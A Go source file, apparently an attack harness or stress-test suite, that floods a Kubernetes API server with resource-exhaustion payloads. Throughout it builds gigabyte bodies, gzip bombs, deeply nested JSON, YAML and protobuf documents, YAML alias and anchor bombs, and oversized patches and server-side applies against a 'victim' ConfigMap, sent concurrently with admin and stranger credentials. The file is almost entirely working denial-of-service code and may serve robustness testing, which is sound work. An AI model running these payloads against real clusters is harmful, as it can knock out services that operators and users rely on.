package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"strings"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
)

const (
	configMaps = "/api/v1/namespaces/default/configmaps"
	victim     = configMaps + "/victim"
	gigabyte   = 1 << 30
	largest    = 3<<20 - 100 // about as large as a body may be
)

// The media types of patches and bodies.
const (
	typeJSON      = "application/json"
	typeYAML      = "application/yaml"
	typeProtobuf  = "application/vnd.kubernetes.protobuf"
	typeJSONPatch = "application/json-patch+json"
	typeMerge     = "application/merge-patch+json"
	typeStrategic = "application/strategic-merge-patch+json"
	typeApply     = "application/apply-patch+yaml"
)

// blanks is a body of white space, which decoders read over.
type blanks struct{}

func (blanks) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// endlessBodies sends a gigabyte with each verb, announced and in chunks.
func endlessBodies(ctx context.Context, a *attacker) error {
	requests := []request{
		{method: "POST", path: configMaps, contentType: typeJSON}, {method: "POST", path: configMaps, contentType: typeYAML},
		{method: "POST", path: configMaps, contentType: typeProtobuf},
		{method: "PUT", path: victim, contentType: typeJSON}, {method: "DELETE", path: victim}, {method: "DELETE", path: configMaps + "?labelSelector=attack"},
		{method: "PATCH", path: victim, contentType: typeJSONPatch}, {method: "PATCH", path: victim, contentType: typeMerge},
		{method: "PATCH", path: victim, contentType: typeStrategic}, {method: "PATCH", path: victim + "?fieldManager=m", contentType: typeApply},
		{method: "GET", path: victim}, {method: "GET", path: configMaps}, {method: "GET", path: "/version"},
		{method: "POST", path: "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", contentType: typeJSON},
		{method: "POST", path: "/apis/authentication.k8s.io/v1/tokenreviews", contentType: typeJSON},
		{method: "POST", path: configMaps + "/none/such", contentType: typeJSON},
		{method: "POST", path: "/api/v1/namespaces/default/serviceaccounts/default/token", contentType: typeJSON},
		{method: "POST", path: "/api/v1/namespaces/default/pods/none/eviction", contentType: typeJSON},
		{method: "POST", path: "/api/v1/namespaces/default/pods/none/exec", contentType: typeJSON},
	}
	var all []func(context.Context)
	for _, credentials := range []*tls.Config{a.admin, a.stranger} {
		for _, second := range []bool{false, true} {
			for _, length := range []int64{gigabyte, -1} {
				web := a.web(credentials, second)
				for _, r := range requests {
					r.length = length
					all = append(all, func(ctx context.Context) {
						r.body = io.LimitReader(blanks{}, gigabyte)
						a.send(ctx, web, r)
					})
				}
			}
		}
	}
	a.many(ctx, len(all), 16, func(ctx context.Context, i int) { all[i](ctx) })
	return nil
}

// gzipBombs sends bodies that would be a gigabyte if somebody inflated them.
func gzipBombs(ctx context.Context, a *attacker) error {
	var bomb bytes.Buffer
	z := gzip.NewWriter(&bomb)
	if _, err := io.CopyN(z, blanks{}, gigabyte/4); err != nil {
		return err
	}
	if err := z.Close(); err != nil {
		return err
	}
	web := a.web(a.admin, false)
	header := http.Header{"Content-Encoding": {"gzip"}}
	a.many(ctx, 64, 8, func(ctx context.Context, i int) {
		a.send(ctx, web, request{method: "POST", path: configMaps, contentType: []string{typeJSON, typeYAML}[i%2], header: header, body: bytes.NewReader(bomb.Bytes())})
	})
	return nil
}

// deepDocuments nests as deep as a body can be.
func deepDocuments(ctx context.Context, a *attacker) error {
	lists := strings.Repeat("[", largest)
	maps := strings.Repeat(`{"a":`, largest/5)
	type document struct{ name, contentType, body string }
	documents := []document{
		{"lists", typeJSON, lists}, {"maps", typeJSON, maps}, {"closed lists", typeJSON, strings.Repeat("[", largest/2) + strings.Repeat("]", largest/2)},
		{"annotations", typeJSON, `{"metadata":{"annotations":` + maps},
		{"under the limit", typeJSON, `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x"},"x":` + strings.Repeat("[", 9000) + strings.Repeat("]", 9000) + "}"},
		{"YAML lists", typeYAML, lists}, {"YAML maps", typeYAML, strings.Repeat("{a: ", largest/4)}, {"YAML blocks", typeYAML, strings.Repeat("- ", largest/2)},
		{"YAML indents", typeYAML, indents(1500)}, {"YAML aliases", typeYAML, aliases(30)}, {"YAML anchors", typeYAML, anchors()},
		{"protobuf", typeProtobuf, "k8s\x00" + nestedMessages()},
	}
	web := a.web(a.admin, false)
	a.many(ctx, 5*len(documents), 8, func(ctx context.Context, i int) {
		d := documents[i%len(documents)]
		for _, r := range []request{
			{method: "POST", path: configMaps, contentType: d.contentType},
			{method: "PATCH", path: victim + "?fieldManager=m", contentType: typeApply},
			{method: "PATCH", path: victim, contentType: typeMerge},
			{method: "PATCH", path: victim, contentType: typeStrategic},
			{method: "PATCH", path: victim, contentType: typeJSONPatch},
			{method: "DELETE", path: victim, contentType: d.contentType},
		} {
			r.body = strings.NewReader(d.body)
			a.send(ctx, web, r)
		}
	})
	return nil
}

// indents nests YAML by indentation, which grows with the square of the depth.
func indents(depth int) string {
	var b strings.Builder
	for i := range depth {
		b.WriteString(strings.Repeat(" ", i) + "a:\n")
	}
	return b.String()
}

// aliases doubles a list with each line.
func aliases(lines int) string {
	var b strings.Builder
	b.WriteString("a0: &a0 [x,x,x,x,x,x,x,x,x]\n")
	for i := 1; i < lines; i++ {
		fmt.Fprintf(&b, "a%d: &a%d [*a%d,*a%d,*a%d,*a%d,*a%d,*a%d,*a%d,*a%d,*a%d]\n", i, i, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1)
	}
	return b.String()
}

// anchors refers to one long text as often as fits.
func anchors() string {
	return "kind: ConfigMap\napiVersion: v1\nmetadata: {name: x}\nbinaryData:\n  a: &a " + strings.Repeat("x", 100<<10) + "\ndata:\n" +
		strings.Repeat("  a: *a\n", 100_000)
}

// nestedMessages is a message within a message and so on, in fields of every number
// below 16, so that whatever type is read finds itself nested.
func nestedMessages() string {
	message := []byte{}
	for i := 0; len(message) < 1<<20 && i < 200_000; i++ {
		if len(message) > 16<<10 {
			break
		}
		head := []byte{byte((i%3+1)<<3 | 2)}
		for n := len(message); ; n >>= 7 {
			if n < 0x80 {
				head = append(head, byte(n))
				break
			}
			head = append(head, byte(n)|0x80)
		}
		message = append(head, message...)
	}
	return string(message)
}

// until repeats a text until a body is as large as it may be.
func until(head, each, tail string) string {
	return head + strings.Repeat(each, (largest-len(head)-len(tail))/len(each)) + strings.TrimPrefix(tail, ",")
}

// numbered is until with a number in each.
func numbered(head, format, tail string, bytes int) string {
	var b strings.Builder
	b.WriteString(head)
	for i := 0; b.Len() < bytes-len(tail)-20; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, format, i)
	}
	b.WriteString(tail)
	return b.String()
}

// manyValues sends objects whose values are as many and as small as can be: what
// takes 3 bytes on the wire takes hundreds in memory.
func manyValues(ctx context.Context, a *attacker) error {
	const pods = "/api/v1/namespaces/default/pods"
	head := `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"x"},"spec":{`
	type document struct{ path, contentType, body string }
	documents := []document{
		{pods, typeJSON, until(head+`"containers":[{}`, ",{}", "]}}")},
		{pods, typeJSON, until(head+`"volumes":[{}`, ",{}", "]}}")},
		{pods, typeJSON, until(head+`"tolerations":[{}`, ",{}", "]}}")},
		{pods, typeJSON, until(head+`"containers":[{"env":[{}`, ",{}", "]}]}}")},
		{pods, typeYAML, until("kind: Pod\napiVersion: v1\nmetadata: {name: x}\nspec:\n  containers:\n", "  - {}\n", "")},
		{pods, typeYAML, until("kind: Pod\napiVersion: v1\nmetadata: {name: x}\nspec: {containers: [{}", ",{}", "]}")},
		{pods, typeYAML, until("kind: Pod\napiVersion: v1\nmetadata: {name: x}\nx: [a", ",a", "]")},
		{pods, typeYAML, until("kind: Pod\napiVersion: v1\nmetadata: {name: x}\nx:\n", "- a\n", "")},
		{pods, typeYAML, until("kind: Pod\napiVersion: v1\nmetadata: {name: x}\nx: {a: b", ",a: b", "}")},
		{configMaps, typeJSON, numbered(`{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x"},"data":{`, `"%d":""`, "}}", largest)},
		{configMaps, typeJSON, numbered(`{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x","annotations":{`, `"%d":""`, "}}}", largest)},
		{configMaps, typeJSON, numbered(`{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x"},`, `"x%d":0`, "}", largest)},
		{configMaps, typeJSON, until(`{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x","ownerReferences":[{}`, ",{}", "]}}")},
		{configMaps, typeJSON, until(`{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x","managedFields":[{}`, ",{}", "]}}")},
		{configMaps, typeJSON, until(`{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"x","finalizers":[""`, `,""`, "]}}")},
		{pods, typeProtobuf, protobufPod()},
		{"/apis/discovery.k8s.io/v1/namespaces/default/endpointslices", typeJSON, until(`{"kind":"EndpointSlice","apiVersion":"discovery.k8s.io/v1","metadata":{"name":"x"},"addressType":"IPv4","endpoints":[{}`, ",{}", "]}")},
		{"/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", typeJSON, until(`{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{"resourceAttributes":{"labelSelector":{"requirements":[{}`, ",{}", "]}}}}")},
	}
	web := a.web(a.admin, false)
	a.many(ctx, 4*len(documents), 8, func(ctx context.Context, i int) {
		d := documents[i/4]
		a.send(ctx, web, request{method: "POST", path: d.path, contentType: d.contentType, body: strings.NewReader(d.body)})
	})
	return nil
}

// protobufPod is a Pod with as many containers as fit, two bytes each.
func protobufPod() string {
	spec := strings.Repeat("\x12\x00", (largest-200)/2)
	length := func(n int) string {
		var b []byte
		for ; n >= 0x80; n >>= 7 {
			b = append(b, byte(n)|0x80)
		}
		return string(append(b, byte(n)))
	}
	pod := "\x12" + length(len(spec)) + spec
	typeMeta := "\x0a\x02v1\x12\x03Pod"
	return "k8s\x00\x0a" + length(len(typeMeta)) + typeMeta + "\x12" + length(len(pod)) + pod
}

// prepareVictim makes an object to be patched.
func prepareVictim(ctx context.Context, c *kubernetes.Clientset) error {
	m := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "victim", Labels: map[string]string{"attack": "1"}}, Data: map[string]string{"k": "v"}}
	_, err := c.CoreV1().ConfigMaps("default").Create(ctx, m, metav1.CreateOptions{})
	return err
}

// hugePatches sends patches of as many elements as fit, and a million of them.
func hugePatches(ctx context.Context, a *attacker) error {
	type document struct{ contentType, body string }
	documents := []document{
		{typeJSONPatch, "[" + strings.Repeat("{},", 1<<20-200) + "{}]"},
		{typeJSONPatch, until(`[{"op":"add","path":"/data/a","value":"b"}`, `,{"op":"add","path":"/data/a","value":"b"}`, "]")},
		{typeJSONPatch, "[" + strings.Repeat(`{"op":"copy","from":"/data","path":"/data/a"},`, 9999) + `{"op":"copy","from":"/data","path":"/data/a"}]`},
		{typeJSONPatch, until(`[{"op":"add","path":"`, "/a", `","value":1}]`)},
		{typeJSONPatch, until(`[{"op":"test","path":"/data","value":[1`, ",1", "]}]")},
		{typeMerge, numbered(`{"data":{`, `"%d":""`, "}}", largest)}, {typeMerge, numbered(`{`, `"%d":{}`, "}", largest)},
		{typeMerge, numbered(`{"metadata":{"annotations":{`, `"%d":null`, "}}}", largest)},
		{typeMerge, until(`{"x":[{}`, ",{}", "]}")},
		{typeStrategic, numbered(`{"data":{`, `"%d":""`, "}}", largest)}, {typeStrategic, numbered(`{`, `"%d":{}`, "}", largest)},
		{typeStrategic, until(`{"metadata":{"ownerReferences":[{"uid":"a"}`, `,{"uid":"a"}`, "]}}")},
		{typeStrategic, numbered(`{"metadata":{"ownerReferences":[`, `{"uid":"%d"}`, "]}}", 300<<10)},
		{typeStrategic, numbered(`{"$setElementOrder/x":[`, `"%d"`, "]}", largest)},
	}
	web := a.web(a.admin, false)
	a.many(ctx, 4*len(documents), 8, func(ctx context.Context, i int) {
		d := documents[i/4]
		a.send(ctx, web, request{method: "PATCH", path: victim, contentType: d.contentType, body: strings.NewReader(d.body)})
	})
	return nil
}

// hugeApplies applies documents of as many values as fit.
func hugeApplies(ctx context.Context, a *attacker) error {
	head := `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"victim"},`
	documents := []string{
		numbered(head+`"data":{`, `"k%d":"v"`, "}}", largest),
		numbered(head+`"data":{`, `"k%d":"v"`, "}}", 900<<10),
		numbered(head+`"x":{`, `"k%d":{}`, "}}", largest),
		until(head+`"x":[{}`, ",{}", "]}"),
		until(head+`"data":{"k":"`, "x", `"}}`),
		until("kind: ConfigMap\napiVersion: v1\nmetadata: {name: victim}\ndata:\n", "  a: b\n", ""),
		aliases(30), indents(1500), anchors(),
	}
	web := a.web(a.admin, false)
	a.many(ctx, 4*len(documents), 8, func(ctx context.Context, i int) {
		a.send(ctx, web, request{method: "PATCH", path: victim + "?force=true&fieldManager=m" + fmt.Sprint(i%4), contentType: typeApply, body: strings.NewReader(documents[i/4])})
	})
	return nil
}
